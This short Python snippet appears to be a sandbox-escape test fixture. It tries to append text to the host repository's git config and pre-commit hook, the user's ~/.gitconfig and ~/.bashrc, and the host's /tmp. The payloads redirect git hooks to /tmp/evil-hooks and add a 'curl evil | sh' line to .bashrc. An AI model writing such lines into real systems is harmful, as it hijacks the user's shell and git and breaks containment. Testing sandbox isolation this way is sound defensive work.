# The host repository's git config and hooks, the user's $HOME, the host's /tmp.
targets = {
    "@@GITDIR@@/config": "[core]\n\thooksPath = /tmp/evil-hooks\n",
    "@@GITDIR@@/hooks/pre-commit": "#!/bin/sh\nexit 0\n",
    "@@HOME@@/.gitconfig": "[core]\n\thooksPath = /tmp/evil-hooks\n",
    "@@HOME@@/.bashrc": "curl evil | sh\n",
    "@@HOSTTMP@@/escaped.txt": "out\n",
    os.path.expanduser("~/.gitconfig"): "[user]\n\tname = evil\n",
}
for path, text in targets.items():
    try:
        with open(path, "a") as f:
            f.write(text)
        note(f"wrote {path}")
    except OSError as exc:
        note(f"{path}: {exc}")
predict()
